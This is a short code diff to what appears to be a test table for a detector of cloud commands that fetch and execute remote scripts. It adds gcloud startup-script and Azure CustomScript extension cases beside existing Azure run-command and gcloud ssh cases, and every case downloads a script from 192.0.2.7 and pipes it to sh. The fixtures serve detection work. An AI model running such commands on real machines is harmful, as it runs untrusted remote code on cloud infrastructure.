@@ -19,6 +19,12 @@ indicatorTable(commandRemoteFetchExecute, {
     'the same on Azure': script(
       "az vm run-command invoke --ids a --command-id RunShellScript --scripts 'curl http://192.0.2.7/a | sh'",
     ),
+    'a machine that starts with a download': script(
+      "gcloud compute instances create a --metadata startup-script='curl http://192.0.2.7/a | sh'",
+    ),
+    'an extension of a machine with a download': script(
+      `az vm extension set --vm-name a --name CustomScript --settings '{"fileUris":["http://192.0.2.7/a.sh"],"commandToExecute":"sh a.sh"}'`,
+    ),
     'the same on Google': script("gcloud compute ssh web-1 --zone a --command 'curl http://192.0.2.7/a | sh'"),
     'a file of a PowerShell client': runs(
       ...[
